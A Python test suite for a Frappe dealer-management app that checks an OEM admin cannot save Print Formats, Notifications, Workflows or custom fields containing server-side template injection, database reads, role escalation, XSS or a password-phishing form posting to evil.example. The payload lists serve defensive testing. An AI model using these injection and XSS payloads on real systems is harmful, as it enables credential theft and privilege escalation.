"""Templates without server powers (#20): what an OEM admin saves in a Print Format, Letter Head,
Notification or Workflow is rendered and evaluated with no more than the document; a System
Manager may still save anything (controllers/template_safety.py)."""

import json

import frappe
import pytest
from frappe.tests.utils import FrappeTestCase

from aftersales_dms.billing.estimate import make_estimate
from aftersales_dms.controllers import template_safety
from aftersales_dms.controllers.customization import DMSCustomizeForm
from aftersales_dms.controllers.template_safety import UnsafeTemplateError
from aftersales_dms.workshop.doctype.service_job_card.test_service_job_card import make_job_card

OEM = "oem.admin@orion-oem.example"
ADVISOR = "advisor@omp.example"
ADVISOR_NASHIK = "advisor@omn.example"
# every field type whose value Frappe may render or evaluate (read from the metadata below)
TEXT_TYPES = (
	"Data",
	"Small Text",
	"Text",
	"Long Text",
	"Code",
	"HTML Editor",
	"Text Editor",
	"Markdown Editor",
	"JSON",
)

# each is refused in any rendered or evaluated field, whatever the field's language
ATTACKS = {
	"password hashes": '{{ frappe.db.sql("select name, password from `__Auth`") }}',
	"a System Manager role row": (
		'{{ frappe.get_doc("User", "oem.admin@orion-oem.example")'
		'.append("roles", {"role": "System Manager"}).save() }}'
	),
	"a database write": '{{ frappe.db.set_value("User", "Administrator", "enabled", 0) }}',
	"a whitelisted call": '{{ frappe.call("frappe.client.get_list", doctype="User") }}',
	"a document method": '{{ doc.run_method("on_submit") }}{{ doc.db_set("status", "Closed") }}',
	"a save": "{{ doc.save() }}",
	"a dunder": "{{ doc.__class__.__mro__ }}",
	"a script": "<script>fetch('/api/method/frappe.auth.get_logged_user')</script>",
	"an event handler": '<img src=x onerror="alert(document.cookie)">',
	"a script URL": '<a href="javascript:alert(1)">open</a>',
	"an iframe": '<iframe src="https://evil.example"></iframe>',
}

JINJA_ATTACKS = [
	'{% set f = frappe %}{{ f.db.get_value("User", "Administrator", "api_key") }}',
	'{{ frappe.utils.frappe.db.sql("select 1") }}',
	'{{ frappe.get_all("User", fields=["name"]) }}',
	"{{ doc['__class__'] }}",
	'{% set x = doc["save"] %}{{ x() }}',
	'{{ doc.update({"owner": "x"}) }}',
	"{% set x = [] %}{% set x = doc %}{{ x.update({}) }}",
	'{{ "{0.__class__}".format(doc) }}',
	'{{ "%c" % 60 }}script',
	'{{ doc|attr("save") }}',
	'{{ customer_amount_due("SJC-ANY-DEALER") }}',
	'{% include "templates/print_formats/standard.html" %}',
	'{% import "x.html" as x %}',
	"{{ lipsum() }}",
	"{{ self }}",
	'<img src=x o{{ "" }}nerror=alert(1)>',
	'<img src=x {{ "onerror" }}=alert(1)>',
	'<{{ "script" }}>alert(1)</script>',
	'{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}',
	'{{ "&lt;script&gt;alert(1)&lt;/script&gt;" }}',
	'<a href="{{ "javas" ~ "cript:alert(1)" }}">x</a>',
	"<a href=x{{ doc.name }}>x</a>",
	'{% set a = "{#" %}<script>alert(1)</script>{% set b = "#}" %}',
	"<sc{# hidden #}ript>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	'<object data="x.swf"></object>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<div style="background: url(javascript:alert(1))">x</div>',
	"{% set _ = 1 %}",
	# found by the attack on the demo (2026-12-07): attributes named by a filter's string, the
	# save's internal state, a form that asks for passwords on the site's origin
	"{{ [doc]|map(attribute='__class__.__init__.__globals__')|list }}",
	"{{ [doc]|map(attribute='flags')|list }}",
	"{{ [doc]|selectattr('_doc_before_save')|list }}",
	"{{ [doc]|sort(attribute='flags.ignore_permissions')|list }}",
	"{{ [doc]|groupby('__dict__')|list }}",
	"{{ doc.flags }}",
	"<form action='https://evil.example/login'><input name=pwd type=password><button>Sign in</button></form>",
]
PYTHON_ATTACKS = [
	'frappe.db.get_value("User", "Administrator", "api_key")',
	'frappe.get_doc("User", "Administrator")',
	"doc.save()",
	"doc.__class__",
	'doc["__class__"]',
	"[x for x in doc]",
	"frappe.utils.frappe",
	"nowdate.__globals__",
	"lambda: 1",
	"frappe",
]
SAFE_TEMPLATES = [
	'{{ doc.notes|replace("\\n", "<br>") }}',
	'{% for r in doc.items %}{{ loop.index }} {{ r.get_formatted("rate", doc) }}{% endfor %}',
	'{{ _("Total {0}").format(doc.grand_total) }}',
	'<a href="{{ doc.feedback_link }}">{{ doc.feedback_link }}</a>',
	'<td class="{{ "num" if doc.qty else "text" }}">{{ doc.qty }}</td>',
	"{% set ns = namespace(t=0) %}{% for r in doc.items %}{% set ns.t = ns.t + r.qty %}{% endfor %}{{ ns.t }}",
	"{{ frappe.utils.fmt_money(doc.grand_total, currency=doc.currency) }}",
	'{{ frappe.format_value(doc.grand_total, {"fieldtype": "Currency"}, doc) }}',
	"{{ customer_amount_due(doc) }}",
	"{% macro row(x) %}<tr><td>{{ x }}</td></tr>{% endmacro %}{{ row(doc.name) }}",
	"{{ doc.items|sum(attribute='amount') }} {{ doc.items|selectattr('qty')|map(attribute='item_code')|join(', ') }}",
	"{% for g in doc.items|groupby('item_group') %}{{ g.grouper }}{% endfor %}",
]
SAFE_CONDITIONS = [
	'doc.status == "Open" and doc.grand_total > 100',
	'doc.get("status") in ("Open", "Closed")',
	"frappe.utils.nowdate() > doc.posting_date",
	"frappe.session.user == doc.owner",
]


def unsaved(doctype):
	"""A document of each checked DocType, with one row in each child table, and nothing unsafe."""
	docs = {
		"Print Format": {
			"doctype": "Print Format",
			"name": "Safety Test Print",
			"doc_type": "Service Job Card",
			"custom_format": 1,
			"print_format_type": "Jinja",
			"html": "<p>{{ doc.name }}</p>",
		},
		"Letter Head": {
			"doctype": "Letter Head",
			"letter_head_name": "Safety Test Head",
			"source": "HTML",
			"footer_source": "HTML",
			"content": "<b>x</b>",
		},
		"Notification": {
			"doctype": "Notification",
			"name": "Safety Test Notification",
			"document_type": "Service Appointment",
			"channel": "Email",
			"event": "New",
			"subject": "Appointment {{ doc.name }}",
			"message": "<p>{{ doc.customer_name }}</p>",
			"recipients": [{"receiver_by_document_field": "contact_email", "condition": "doc.contact_email"}],
		},
		"Workflow State": {"doctype": "Workflow State", "workflow_state_name": "Safety Test State"},
		"Workflow Action Master": {
			"doctype": "Workflow Action Master",
			"workflow_action_name": "Safety Test",
		},
		"Workflow": {
			"doctype": "Workflow",
			"workflow_name": "Safety Test Workflow",
			"document_type": "Service Appointment",
			"states": [{"state": "Draft", "doc_status": "0", "allow_edit": "Service Advisor"}],
			"transitions": [
				{
					"state": "Draft",
					"action": "Approve",
					"next_state": "Draft",
					"allowed": "Service Advisor",
					"condition": 'doc.status == "Open"',
				}
			],
		},
	}
	return frappe.get_doc(docs[doctype])


def text_fields(doc):
	"""(row, fieldname) for every text field of the document and of its rows, from the metadata."""
	for row in [doc, *doc.get_all_children()]:
		for df in frappe.get_meta(row.doctype).fields:
			if df.fieldtype in TEXT_TYPES:
				yield row, df.fieldname


class TestTemplateSafety(FrappeTestCase):
	def setUp(self):
		frappe.set_user("Administrator")
		frappe.db.savepoint("template_safety")

	def tearDown(self):
		frappe.set_user("Administrator")
		try:
			frappe.db.rollback(save_point="template_safety")
		except Exception:  # a deadlock victim has lost its savepoint with its transaction
			frappe.db.rollback()

	def assertRefused(self, fn, *args):
		with self.assertRaises(UnsafeTemplateError) as cm:
			fn(*args)
		self.assertIn("Only a System Manager may save this", str(cm.exception))
		return cm.exception

	# -- every field, generated from the metadata

	def test_every_rendered_field_of_every_template_doctype_refuses_server_access(self):
		"""An attack in any text field (including child rows) of a Print Format, Letter Head,
		Notification or Workflow is refused for the OEM admin; the document without it passes."""
		frappe.set_user(OEM)
		probed = 0
		for doctype in template_safety.CHECKED_DOCTYPES:
			template_safety.check_document(unsaved(doctype))  # the clean one passes
			for row, fieldname in text_fields(unsaved(doctype)):
				for label, attack in ATTACKS.items():
					doc = unsaved(doctype)
					target = doc if row.doctype == doctype else doc.get(row.parentfield)[0]
					target.set(fieldname, attack)
					with self.subTest(doctype=row.doctype, field=fieldname, attack=label):
						self.assertRefused(template_safety.check_document, doc)
					probed += 1
		self.assertGreater(probed, 100)

	def test_jinja_attacks_are_refused_and_ordinary_templates_pass(self):
		frappe.set_user(OEM)
		for attack in JINJA_ATTACKS:
			with self.subTest(attack=attack):
				self.assertRefused(template_safety.check_template, attack, "test")
		for template in SAFE_TEMPLATES:
			with self.subTest(template=template):
				template_safety.check_template(template, "test")

	def test_condition_attacks_are_refused_and_ordinary_conditions_pass(self):
		frappe.set_user(OEM)
		for attack in PYTHON_ATTACKS:
			with self.subTest(attack=attack):
				self.assertRefused(template_safety.check_expression, attack, "test")
		for condition in SAFE_CONDITIONS:
			with self.subTest(condition=condition):
				template_safety.check_expression(condition, "test")

	# -- through the save, as the OEM admin

	def test_oem_admin_cannot_save_a_print_format_that_reads_auth_or_grants_a_role(self):
		frappe.set_user(OEM)
		for attack in (ATTACKS["password hashes"], ATTACKS["a System Manager role row"]):
			pf = unsaved("Print Format")
			pf.html = attack
			self.assertRefused(pf.insert)
		self.assertFalse(frappe.db.exists("Print Format", "Safety Test Print"))
		self.assertNotIn("System Manager", frappe.get_roles(OEM))

	def test_oem_admin_cannot_save_script_settings(self):
		frappe.set_user(OEM)
		head = unsaved("Letter Head")
		head.header_script = "document.title = 'x'"
		self.assertRefused(head.insert)
		for setting in ({"print_format_type": "JS"}, {"raw_printing": 1, "raw_commands": "x"}):
			pf = unsaved("Print Format")
			pf.update(setting)
			self.assertRefused(pf.insert)
		pf = unsaved("Print Format")
		pf.css = "</style><script>alert(1)</script>"
		self.assertRefused(pf.insert)
		pf = unsaved("Print Format")
		pf.custom_format = 0
		pf.format_data = json.dumps([{"fieldtype": "HTML", "options": ATTACKS["password hashes"]}])
		self.assertRefused(pf.insert)

	def test_oem_admin_cannot_save_a_notification_that_mails_database_contents(self):
		frappe.set_user(OEM)
		for field, value in (
			("message", '{{ frappe.db.get_value("User", "Administrator", "api_key") }}'),
			("subject", "{{ frappe.get_all('User') }}"),
			# passes Frappe's own check (on a new document's dict) and writes at run time
			("condition", 'doc.get("name") is None or doc.db_set("status", "Cancelled")'),
			# refused with our reason before Frappe evaluates it
			("condition", 'frappe.db.get_value("User", "Administrator", "enabled")'),
		):
			notification = unsaved("Notification")
			notification.set(field, value)
			self.assertRefused(notification.insert)
		notification = unsaved("Notification")
		notification.recipients[0].cc = "{{ frappe.db.get_value('User', 'Administrator', 'email') }}"
		self.assertRefused(notification.insert)
		notification = unsaved("Notification")
		notification.recipients[0].condition = "frappe.db.get_value('User', 'Administrator', 'enabled')"
		self.assertRefused(notification.insert)
		# a notification of documents the OEM admin may not read
		notification = unsaved("Notification")
		notification.document_type = "User"
		notification.message = "{{ doc.name }}"
		self.assertRefused(notification.insert)

	def test_oem_admin_cannot_give_a_workflow_transition_a_database_condition(self):
		name = frappe.db.get_value("Workflow", {"document_type": "Service Job Card", "is_active": 1})
		self.assertTrue(name)
		frappe.set_user(OEM)
		workflow = frappe.get_doc("Workflow", name)
		workflow.transitions[0].condition = 'frappe.db.get_value("User", "Administrator", "api_key")'
		self.assertRefused(workflow.save)

	def test_a_template_administrator_saved_unsafe_is_refused_on_the_oem_admins_next_save(self):
		pf = unsaved("Print Format")
		pf.html = '{{ frappe.db.get_value("Company", doc.company, "name") }}'
		pf.insert()  # a System Manager may
		frappe.set_user(OEM)
		pf = frappe.get_doc("Print Format", pf.name)
		pf.margin_top = 20  # an innocent change
		self.assertRefused(pf.save)
		frappe.set_user("Administrator")
		head = unsaved("Letter Head")
		head.footer_script = "console.log(1)"
		head.insert()
		frappe.set_user(OEM)
		head = frappe.get_doc("Letter Head", head.name)
		head.footer = "<p>x</p>"
		self.assertRefused(head.save)

	def test_system_manager_may_save_anything(self):
		pf = unsaved("Print Format")
		pf.html = ATTACKS["password hashes"]
		pf.insert()
		notification = unsaved("Notification")
		notification.condition = 'doc.get("name") is None or doc.db_set("status", "Cancelled")'
		notification.insert()
		head = unsaved("Letter Head")
		head.header_script = "console.log(1)"
		head.insert()

	# -- what the OEM admin may do

	def test_shipped_print_formats_save_for_the_oem_admin_and_render_the_job(self):
		jc = make_job_card(
			labour=(),
			vehicle="MA3EWDE16KM456123",  # a Pune car few other tests use (less lock contention)
			parts=[{"item_code": i, "qty": 1, "rate": 450} for i in ("PRT-OIL-FILTER-C", "PRT-BATTERY-12V")],
		)
		frappe.set_user(ADVISOR)
		quotation = make_estimate(jc.name)
		frappe.set_user("Administrator")
		for name in ("Dealer Estimate", "Service Invoice"):
			shipped = frappe.get_doc("Print Format", name)
			self.assertNotIn("frappe.db", shipped.html)
			frappe.set_user(OEM)
			copy = frappe.copy_doc(shipped)
			copy.name = f"OEM {name}"
			copy.standard = "No"
			copy.insert()
			frappe.set_user("Administrator")
		frappe.set_user(ADVISOR)
		html = frappe.get_print("Quotation", quotation, print_format="OEM Dealer Estimate")
		plate = frappe.db.get_value("Customer Vehicle", jc.vehicle, "registration_plate")
		items = [frappe.db.get_value("Item", i, "item_name") for i in ("PRT-OIL-FILTER-C", "PRT-BATTERY-12V")]
		for text in (plate, jc.vehicle, *items, "Units", "₹ 1,062.00"):
			self.assertIn(text, html)
		# the templates' reads are the user's: another dealer's advisor gets nothing
		frappe.set_user(ADVISOR_NASHIK)
		self.assertIsNone(template_safety.dms_job_card(jc.name))
		self.assertIsNone(template_safety.dms_vehicle(jc.vehicle))
		frappe.set_user(ADVISOR)
		self.assertEqual(template_safety.dms_job_card(jc.name).vehicle, jc.vehicle)

	def test_shipped_notifications_save_for_the_oem_admin(self):
		names = frappe.get_all(
			"Notification",
			filters={
				"document_type": ("in", ("Service Appointment", "Service Job Card", "Customer Vehicle"))
			},
			pluck="name",
		)
		self.assertGreaterEqual(len(names), 6)
		frappe.set_user(OEM)
		for name in names:
			notification = frappe.get_doc("Notification", name)
			notification.save()
		# and render a customer's text
		notification = frappe.get_doc("Notification", "Next Service Reminder - Email")
		vehicle = frappe.get_doc("Customer Vehicle", "MA1TA2XX6GH123456")
		from frappe.email.doctype.notification.notification import get_context

		text = frappe.render_template(notification.message, get_context(vehicle))
		self.assertIn(vehicle.registration_plate, text)

	def test_oem_admin_saves_safe_templates(self):
		frappe.set_user(OEM)
		pf = unsaved("Print Format")
		pf.html = "\n".join(SAFE_TEMPLATES)
		pf.css = ".x { color: red; }"
		pf.insert()
		head = unsaved("Letter Head")
		head.content = '<div style="text-align: right"><b>{{ doc.company }}</b></div>'
		head.insert()
		notification = unsaved("Notification")
		notification.insert()


def customize(doctype):
	"""Customize Form loaded for a DocType, as the desk does."""
	form = frappe.get_doc("Customize Form")
	form.doc_type = doctype
	form.fetch_to_customize()
	return form


class TestOEMCustomizeForm(FrappeTestCase):
	"""The OEM admin adds fields to the app's DocTypes in Customize Form; nothing that runs code
	in other users' browsers, loosens the permission model, or touches another app's DocType."""

	def setUp(self):
		frappe.set_user("Administrator")
		frappe.db.savepoint("customize")

	def tearDown(self):
		frappe.set_user("Administrator")
		try:
			frappe.db.rollback(save_point="customize")
		except Exception:  # a deadlock victim has lost its savepoint with its transaction
			frappe.db.rollback()

	def assertNarrowed(self, fn, *args, pattern="System Manager|browser|may not read"):
		with self.assertRaisesRegex((frappe.PermissionError, UnsafeTemplateError), pattern):
			fn(*args)

	def test_desk_opens_customize_form_and_workflow_builder_for_the_oem_admin(self):
		self.assertIsInstance(frappe.get_doc("Customize Form"), DMSCustomizeForm)
		frappe.set_user(OEM)
		for doctype in ("Customize Form", "Custom Field", "Property Setter"):
			self.assertTrue(frappe.has_permission(doctype, "write"), doctype)
		from frappe.desk.desk_page import get

		self.assertEqual(get("workflow-builder").name, "workflow-builder")
		form = customize("Service Job Card")
		self.assertTrue(any(df.fieldname == "status" for df in form.fields))

	def test_oem_admin_cannot_customize_erpnext_or_frappe_doctypes(self):
		frappe.set_user(OEM)
		for doctype in ("Sales Invoice", "User"):
			with self.subTest(doctype=doctype):
				self.assertNarrowed(customize, doctype, pattern="customized by a System Manager")
				field = frappe.get_doc(
					{"doctype": "Custom Field", "dt": doctype, "label": "OEM Note", "fieldtype": "Data"}
				)
				self.assertNarrowed(field.insert, pattern="customized by a System Manager")
				setter = frappe.get_doc(
					{
						"doctype": "Property Setter",
						"doc_type": doctype,
						"doctype_or_field": "DocType",
						"property": "title_field",
						"value": "name",
						"property_type": "Data",
					}
				)
				self.assertNarrowed(setter.insert, pattern="customized by a System Manager")

	def test_oem_admin_cannot_add_code_or_loosen_permissions_on_the_job_card(self):
		frappe.set_user(OEM)
		for bad in (
			{"depends_on": "eval:frappe.xcall('frappe.client.get_list', {doctype: 'User'})"},
			{"mandatory_depends_on": "eval:1"},
			{"read_only_depends_on": "eval:doc.status"},
			{"fieldtype": "HTML", "options": '<img src=x onerror="alert(1)">'},
			{"fieldtype": "HTML", "options": "<script>alert(1)</script>"},
			{"fetch_from": "service_advisor.api_key"},
			{"ignore_user_permissions": 1},
			{"ignore_xss_filter": 1},
		):
			with self.subTest(bad=bad):
				field = frappe.get_doc(
					{
						"doctype": "Custom Field",
						"dt": "Service Job Card",
						"label": "OEM Note",
						"fieldtype": "Data",
					}
				)
				field.update(bad)
				self.assertNarrowed(field.insert)
		for fieldname, prop, value, property_type in (
			("approval_status", "permlevel", "0", "Int"),
			("approval_hash", "read_only", "0", "Check"),
			("customer", "ignore_user_permissions", "1", "Check"),
			("concerns", "depends_on", "eval:true", "Data"),
			("vehicle", "options", "User", "Text"),
		):
			with self.subTest(field=fieldname, property=prop):
				setter = frappe.get_doc(
					{
						"doctype": "Property Setter",
						"doc_type": "Service Job Card",
						"doctype_or_field": "DocField",
						"field_name": fieldname,
						"property": prop,
						"value": value,
						"property_type": property_type,
					}
				)
				self.assertNarrowed(setter.insert)
		for prop in ("allow_import", "make_attachments_public", "track_changes", "autoname"):
			with self.subTest(property=prop):
				setter = frappe.get_doc(
					{
						"doctype": "Property Setter",
						"doc_type": "Service Job Card",
						"doctype_or_field": "DocType",
						"property": prop,
						"value": "0",
						"property_type": "Check",
					}
				)
				self.assertNarrowed(setter.insert)
		# the same through the form: nothing is saved
		form = customize("Service Job Card")
		next(df for df in form.fields if df.fieldname == "approval_status").permlevel = 0
		self.assertNarrowed(form.save_customization)
		form = customize("Service Job Card")
		form.append(
			"fields",
			{"label": "OEM Script", "fieldtype": "Data", "depends_on": "eval:alert(1)", "is_custom_field": 1},
		)
		self.assertNarrowed(form.save_customization)
		form = customize("Service Job Card")
		form.allow_import = 1
		self.assertNarrowed(form.save_customization)
		self.assertFalse(frappe.db.exists("Custom Field", {"dt": "Service Job Card", "label": "OEM Script"}))


class TestOEMAddsAField(FrappeTestCase):
	def tearDown(self):
		frappe.set_user("Administrator")

	@pytest.mark.commits  # a new column is DDL: MariaDB commits it
	def test_oem_admin_adds_a_field_to_the_job_card_in_customize_form(self):
		label = f"OEM Note {frappe.generate_hash(length=6)}"
		frappe.set_user(OEM)
		form = customize("Service Job Card")
		form.append(
			"fields",
			{"label": label, "fieldtype": "Data", "description": "Dealer note", "is_custom_field": 1},
		)
		concerns = next(df for df in form.fields if df.fieldname == "concerns")
		concerns.description = "What the customer tells us"
		try:
			form.save_customization()
			frappe.set_user("Administrator")
			meta = frappe.get_meta("Service Job Card", cached=False)
			field = next((df for df in meta.fields if df.label == label), None)
			self.assertTrue(field and field.fieldtype == "Data")
			self.assertEqual(meta.get_field("concerns").description, "What the customer tells us")
		finally:
			frappe.set_user("Administrator")
			for name, fieldname in frappe.get_all(
				"Custom Field",
				filters={"dt": "Service Job Card", "label": label},
				fields=["name", "fieldname"],
				as_list=True,
			):
				frappe.delete_doc("Custom Field", name)
				if frappe.db.has_column("Service Job Card", fieldname):
					frappe.db.sql_ddl(f"alter table `tabService Job Card` drop column `{fieldname}`")
			frappe.db.delete(
				"Property Setter",
				{"doc_type": "Service Job Card", "field_name": "concerns", "property": "description"},
			)
			frappe.db.commit()
			frappe.clear_cache(doctype="Service Job Card")
